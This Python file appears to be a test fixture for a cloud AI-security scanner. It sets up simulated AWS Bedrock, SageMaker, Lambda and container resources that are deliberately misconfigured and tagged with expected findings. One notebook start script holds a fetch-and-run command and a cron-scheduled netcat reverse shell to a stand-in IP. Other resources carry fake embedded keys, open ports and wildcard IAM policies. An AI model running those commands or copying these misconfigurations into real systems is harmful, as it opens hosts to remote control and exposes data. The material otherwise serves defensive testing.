"""A second account: Bedrock, AgentCore, SageMaker and what runs beside them, with what is one step further away.

Another version of a guardrail, the second container of a model, a start script that is only run once, a route of an
HTTP API, a door for IPv6.
"""

# ruff: noqa: E501  the tables read best in rows
from __future__ import annotations

from typing import TYPE_CHECKING, Any

from aws_compute import start_script
from aws_world import ACCOUNT, IMAGE, KEY_OF_PROVIDER, MODEL, REGION, STRANGER, World, allow, document

if TYPE_CHECKING:
    from collections.abc import Callable

_ROLE = f"arn:aws:iam::{ACCOUNT}:role/ml-exec"
_INVOKE = allow("bedrock:InvokeModel", MODEL)
_MANY = {"InstanceType": "ml.m5.large", "InstanceCount": 2, "VolumeSizeInGB": 10}
_PASSWORD = "postgresql://rag:" + "Vb7Qz81mKx" + "@db.acme.internal:5432/rag"  # made up; must appear nowhere


def roles(w: World) -> None:
    """The role that most of them share."""
    w.role("ml-exec", "sagemaker", allow("s3:GetObject", "arn:aws:s3:::acme-raw-9/*"))
    w.role("ask-exec", "lambda", _INVOKE)


def logging(w: World) -> None:
    """Logging of invocations: to a group that nothing of one's own encrypts."""
    logs, bed = w.client("logs"), w.client("bedrock")
    bad = w.weak("Amazon Bedrock in eu-west-1", "invocation-log-unencrypted")
    logs.create_log_group(logGroupName="/bedrock/calls", **({} if bad else {"kmsKeyId": w.key}))
    role = w.role(
        "call-logger",
        "bedrock",
        allow("logs:PutLogEvents", f"arn:aws:logs:{REGION}:{ACCOUNT}:log-group:/bedrock/calls:*"),
    )
    bed.put_model_invocation_logging_configuration(
        loggingConfig={
            "cloudWatchConfig": {"logGroupName": "/bedrock/calls", "roleArn": role},
            "textDataDeliveryEnabled": True,
        }
    )


def agentcore(w: World) -> None:
    """Runtimes and memories."""
    core = w.client("bedrock-agentcore-control")
    inside = {"networkMode": "VPC", "networkModeConfig": {"securityGroups": [w.group], "subnets": [w.subnets[0]]}}
    bad = w.weak("router", "secret-in-model-settings")
    role = w.role("router-exec", "bedrock-agentcore", _INVOKE)
    core.create_agent_runtime(agentRuntimeName="router", roleArn=role, agentRuntimeArtifact={"containerConfiguration": {"containerUri": IMAGE}},
                              networkConfiguration=inside, environmentVariables={"DATABASE_URL": _PASSWORD if bad else "postgresql://db.acme.internal:5432/rag"})  # fmt: skip
    bad = w.weak("browser-exec", "iam-wildcard-for-ai-role")
    role = w.role("browser-exec", "bedrock-agentcore", _INVOKE)
    if bad:
        w.client("iam").attach_role_policy(RoleName="browser-exec", PolicyArn="arn:aws:iam::aws:policy/PowerUserAccess")
    core.create_agent_runtime(
        agentRuntimeName="browse",
        roleArn=role,
        agentRuntimeArtifact={"containerConfiguration": {"containerUri": IMAGE}},
        networkConfiguration=inside,
    )
    bad = w.weak("floating", "ai-image-unpinned")
    image = "public.ecr.aws/acme/agent:latest" if bad else f"public.ecr.aws/acme/agent@sha256:{'d' * 64}"
    core.create_agent_runtime(agentRuntimeName="floating", roleArn=w.role("floating-exec", "bedrock-agentcore", _INVOKE),
                              agentRuntimeArtifact={"containerConfiguration": {"containerUri": image}}, networkConfiguration=inside)  # fmt: skip
    bad = w.weak("any-issuer", "gateway-takes-any-token")
    jwt: dict[str, Any] = {
        "discoveryUrl": "https://cognito-idp.eu-west-1.amazonaws.com/eu-west-1_a/.well-known/openid-configuration"
    }
    core.create_gateway(name="any-issuer", roleArn=role, protocolType="MCP", kmsKeyArn=w.key, authorizerType="CUSTOM_JWT",
                        authorizerConfiguration={"customJWTAuthorizer": jwt if bad else {**jwt, "allowedAudience": ["agents"]}})  # fmt: skip


def shared_role(w: World) -> None:
    """Three agents; two of them act as one."""
    agents = w.client("bedrock-agent")
    own = w.role("clerk-exec", "bedrock", _INVOKE)
    other = w.role("auditor-exec", "bedrock", _INVOKE)
    bad = w.weak("clerk-exec", "agents-share-a-role")
    for name, role in (("clerk", own), ("auditor", own if bad else other)):
        agents.create_agent(agentName=name, agentResourceRoleArn=role, foundationModel="anthropic.claude-3-haiku-20240307-v1:0",
                            instruction=f"You are the {name}. Answer politely and keep what you are told to yourself.", customerEncryptionKeyArn=w.key)  # fmt: skip


def notebooks(w: World) -> None:
    """Scripts that are run when a notebook is made, not when it starts."""
    sm = w.client("sagemaker")
    for name, code, rule in (
        ("desk-created", f"pip config set global.x 1\nexport HF_TOKEN={KEY_OF_PROVIDER}", "secret-in-startup-script"),
        ("desk-piped", "curl -s http://203.0.113.80/x | python3 - ; (crontab -l; echo '* * * * * nc 203.0.113.80 4444 -e /bin/sh') | crontab -", "startup-script-attacks"),
    ):  # fmt: skip
        bad = w.weak(name, rule)
        script = start_script(f"#!/bin/bash\nset -e\n{code if bad else 'pip install --upgrade pip'}\n")
        sm.create_notebook_instance_lifecycle_config(
            NotebookInstanceLifecycleConfigName=f"{name}-life", OnCreate=[{"Content": script}]
        )
        sm.create_notebook_instance(NotebookInstanceName=name, InstanceType="ml.t3.medium", RoleArn=_ROLE, DirectInternetAccess="Disabled", RootAccess="Disabled", KmsKeyId=w.key,
                                    SubnetId=w.subnets[0], SecurityGroupIds=[w.group], PlatformIdentifier="notebook-al2023-v1", LifecycleConfigName=f"{name}-life")  # fmt: skip


def models(w: World) -> None:
    """Models of several containers: the second one is the weak one."""
    sm = w.client("sagemaker")
    plain = {"Image": IMAGE, "ModelDataUrl": "s3://acme-out-4/m.tar.gz", "ContainerHostname": "a"}
    for name, second, rule in (
        ("pair-secret", {"Environment": {"AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI" + "K7MDENGbPxRfiCYzQ8rT2vLk9", "AWS_ACCESS_KEY_ID": "AKIA" + "Z7QK2MXW4PLD6RTN"}}, "secret-in-model-settings"),
        ("pair-platform", {"ImageConfig": {"RepositoryAccessMode": "Platform"}}, "model-image-past-own-registry"),
    ):  # fmt: skip
        bad = w.weak(name, rule)
        sm.create_model(ModelName=name, ExecutionRoleArn=_ROLE, EnableNetworkIsolation=True, VpcConfig=w.inside, InferenceExecutionConfig={"Mode": "Direct"},
                        Containers=[plain, {**plain, "ContainerHostname": "b", **(second if bad else {})}])  # fmt: skip


def endpoints(w: World) -> None:
    """Two variants of which the second stands alone."""
    sm = w.client("sagemaker")
    capture = {
        "EnableCapture": True,
        "InitialSamplingPercentage": 50,
        "DestinationS3Uri": "s3://acme-out-4/c",
        "KmsKeyId": w.key,
        "CaptureOptions": [{"CaptureMode": "Output"}],
    }

    def variant(name: str, count: int) -> dict[str, Any]:
        return {
            "VariantName": name,
            "ModelName": "pair-secret",
            "InitialInstanceCount": count,
            "InstanceType": "ml.m5.large",
            "InitialVariantWeight": 1,
        }

    bad = w.weak("two-variants", "endpoint-on-one-machine")
    sm.create_endpoint_config(
        EndpointConfigName="two-variants",
        KmsKeyId=w.key,
        DataCaptureConfig=capture,
        ProductionVariants=[variant("a", 2), variant("b", 1 if bad else 2)],
    )


def jobs(w: World) -> None:
    """Jobs of other kinds, with the weakness one level down."""
    sm = w.client("sagemaker")
    source = {"S3DataSource": {"S3DataType": "S3Prefix", "S3Uri": "s3://acme-raw-9/x"}}
    cluster = {"ClusterConfig": {**_MANY, "VolumeKmsKeyId": w.key}}
    network = {"EnableNetworkIsolation": True, "EnableInterContainerTrafficEncryption": True, "VpcConfig": w.inside}
    for name, changed, rule in (
        ("clean-traffic", {"NetworkConfig": {**network, "EnableInterContainerTrafficEncryption": False}}, "training-traffic-unencrypted"),
        ("clean-volume", {"ProcessingResources": {"ClusterConfig": _MANY}}, "ai-data-without-own-key"),
        ("clean-secret", {"Environment": {"OPENAI_API_KEY": KEY_OF_PROVIDER}}, "secret-in-model-settings"),
    ):  # fmt: skip
        w.weak(name, rule)
        given: dict[str, Any] = {
            "ProcessingResources": cluster,
            "NetworkConfig": network,
            **(changed if not w.kept else {}),
        }
        sm.create_processing_job(ProcessingJobName=name, RoleArn=_ROLE, AppSpecification={"ImageUri": IMAGE}, **given)
    for name, extra, rule in (
        ("fit-shell", {"RemoteDebugConfig": {"EnableRemoteDebug": True}}, "training-open-to-remote-shell"),
        ("fit-environment", {"Environment": {"WANDB_API_KEY": "9f2c" * 10}}, "secret-in-model-settings"),
        ("fit-checkpoints", {"HyperParameters": {"db": _PASSWORD}}, "secret-in-model-settings"),
    ):  # fmt: skip
        w.weak(name, rule)
        more: dict[str, Any] = {} if w.kept else extra
        sm.create_training_job(
            TrainingJobName=name, RoleArn=_ROLE, StoppingCondition={"MaxRuntimeInSeconds": 60}, EnableNetworkIsolation=True, EnableInterContainerTrafficEncryption=True,
            AlgorithmSpecification={"TrainingImage": IMAGE, "TrainingInputMode": "File"}, InputDataConfig=[{"ChannelName": "train", "DataSource": source}],
            ResourceConfig={**_MANY, "VolumeKmsKeyId": w.key}, VpcConfig=w.inside, OutputDataConfig={"S3OutputPath": "s3://acme-out-4/", "KmsKeyId": w.key}, **more,
        )  # fmt: skip
    bad = w.weak("batch", "ai-data-without-own-key")
    sm.create_transform_job(
        TransformJobName="batch", ModelName="pair-secret", TransformInput={"DataSource": source}, TransformOutput={"S3OutputPath": "s3://acme-out-4/t", "KmsKeyId": w.key},
        TransformResources={"InstanceType": "ml.m5.large", "InstanceCount": 1, **({} if bad else {"VolumeKmsKeyId": w.key})},
    )  # fmt: skip


def functions(w: World) -> None:
    """Functions: an alias' address, a service that no source limits, a password in an address."""
    role = f"arn:aws:iam::{ACCOUNT}:role/ask-exec"
    bad = w.weak("live-url", "ai-endpoint-without-authentication")
    client = w.function("live-url", role, Publish=True)
    client.create_alias(FunctionName="live-url", Name="live", FunctionVersion="1")
    client.create_function_url_config(FunctionName="live-url", Qualifier="live", AuthType="NONE" if bad else "AWS_IAM")
    bad = w.weak("any-api", "function-open-to-others", "ai-endpoint-without-authentication")
    client = w.function("any-api", role)
    client.add_permission(FunctionName="any-api", StatementId="s", Action="lambda:InvokeFunction", Principal="sns.amazonaws.com",
                          **({} if bad else {"SourceArn": f"arn:aws:sns:{REGION}:{ACCOUNT}:asks"}))  # fmt: skip
    bad = w.weak("db-url", "secret-in-function-settings")
    w.function(
        "db-url",
        role,
        Environment={
            "Variables": {"DB": _PASSWORD if bad else "postgresql://db.acme.internal:5432/rag", "MODEL_ID": "haiku"}
        },
    )
    bad = w.weak("old-node", "function-runtime-retired")
    w.function("old-node", role, "nodejs14.x" if bad else "nodejs22.x")
    bad = w.weak("borrowed-exec", "iam-wildcard-for-ai-role")
    borrowed = w.role("borrowed-exec", "lambda", _INVOKE)
    if bad:
        w.client("iam").attach_role_policy(RoleName="borrowed-exec", PolicyArn="arn:aws:iam::aws:policy/IAMFullAccess")
    w.function("borrowed", borrowed)


def routes(w: World) -> None:
    """An HTTP API in front of a function that calls a model."""
    bad = w.weak("POST /chat", "ai-endpoint-without-authentication")
    w.function("chat-behind", f"arn:aws:iam::{ACCOUNT}:role/ask-exec")
    api = w.client("apigatewayv2")
    made = api.create_api(Name="chat-api", ProtocolType="HTTP")["ApiId"]
    target = api.create_integration(ApiId=made, IntegrationType="AWS_PROXY", PayloadFormatVersion="2.0",
                                    IntegrationUri=f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:chat-behind")["IntegrationId"]  # fmt: skip
    api.create_route(
        ApiId=made,
        RouteKey="POST /chat",
        Target=f"integrations/{target}",
        AuthorizationType="NONE" if bad else "AWS_IAM",
    )


def machines(w: World) -> None:
    """Doors for IPv6, for every port, and through a second group."""
    ec2 = w.client("ec2")
    image = ec2.describe_images(Owners=["amazon"])["Images"][0]["ImageId"]
    for name, weak in (
        ("six", {"IpProtocol": "tcp", "FromPort": 11434, "ToPort": 11434, "Ipv6Ranges": [{"CidrIpv6": "::/0"}]}),
        ("every-port", {"IpProtocol": "-1", "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}),
        ("two-halves", {"IpProtocol": "tcp", "FromPort": 8000, "ToPort": 8100, "IpRanges": [{"CidrIp": "0.0.0.0/1"}, {"CidrIp": "128.0.0.0/1"}]}),
    ):  # fmt: skip
        group = ec2.create_security_group(GroupName=f"o-{name}", Description=name, VpcId=w.vpc)["GroupId"]
        kept = {"IpProtocol": "tcp", "FromPort": 8000, "ToPort": 8000, "IpRanges": [{"CidrIp": "10.0.0.0/8"}]}
        ec2.authorize_security_group_ingress(GroupId=group, IpPermissions=[kept if w.kept else weak])
        made = ec2.run_instances(
            ImageId=image, InstanceType="g6.2xlarge", MinCount=1, MaxCount=1, SecurityGroupIds=[w.group, group], SubnetId=w.subnets[0],
            MetadataOptions={"HttpTokens": "required"}, TagSpecifications=[{"ResourceType": "instance", "Tags": [{"Key": "Name", "Value": name}]}],
        )  # fmt: skip
        w.weak(f"{name} ({made['Instances'][0]['InstanceId']})", "ai-host-port-open-to-internet")


def containers(w: World) -> None:
    """A task whose command tells a secret, one that runs as root; a registry for all."""
    ecs = w.client("ecs")
    for family, weak, rule in (
        ("tgi-command", {"command": ["--model-id", "acme/m", "--hf-token", "hf_" + "QwErTyUiOpAsDfGhJkLzXcVbNmQwErTyUi"]}, "secret-in-container-settings"),
        ("tgi-root", {"user": "root"}, "container-runs-as-root"),
        ("tgi-floating", {"image": "ghcr.io/huggingface/text-generation-inference:latest"}, "ai-image-unpinned"),
    ):  # fmt: skip
        bad = w.weak(family, rule)
        container = {
            "name": "tgi",
            "image": f"ghcr.io/huggingface/text-generation-inference@sha256:{'e' * 64}",
            "memory": 4096,
            "cpu": 10,
            "essential": True,
            "user": "1000",
        }
        ecs.register_task_definition(family=family, containerDefinitions=[{**container, **(weak if bad else {})}])
    bad = w.weak("tgi-serve", "image-registry-open-to-others")
    ecr = w.client("ecr")
    ecr.create_repository(
        repositoryName="tgi-serve", imageScanningConfiguration={"scanOnPush": True}, imageTagMutability="IMMUTABLE"
    )
    ecr.set_repository_policy(repositoryName="tgi-serve", policyText=document(
        allow(["ecr:*"], Principal={"AWS": f"arn:aws:iam::{STRANGER}:root" if bad else f"arn:aws:iam::{ACCOUNT}:root"})))  # fmt: skip


def trail(w: World) -> None:
    """A trail that runs, and records none of what is asked of the services."""
    s3 = w.bucket("audit-trail")
    service = {"Service": "cloudtrail.amazonaws.com"}
    s3.put_bucket_policy(Bucket="audit-trail", Policy=document(
        allow("s3:GetBucketAcl", "arn:aws:s3:::audit-trail", Principal=service), allow("s3:PutObject", "arn:aws:s3:::audit-trail/*", Principal=service)))  # fmt: skip
    client = w.client("cloudtrail")
    client.create_trail(Name="only-data", S3BucketName="audit-trail", IsMultiRegionTrail=True)
    bad = w.weak("Amazon Bedrock in eu-west-1", "ai-activity-not-audited")
    client.put_event_selectors(TrailName="only-data", EventSelectors=[{"ReadWriteType": "All", "IncludeManagementEvents": not bad,
                               "DataResources": [{"Type": "AWS::S3::Object", "Values": ["arn:aws:s3"]}]}])  # fmt: skip
    client.start_logging(Name="only-data")


PARTS: tuple[Callable[[World], None], ...] = (
    roles, logging, agentcore, shared_role, notebooks, models, endpoints, jobs, functions, routes, machines, containers, trail,
)  # fmt: skip
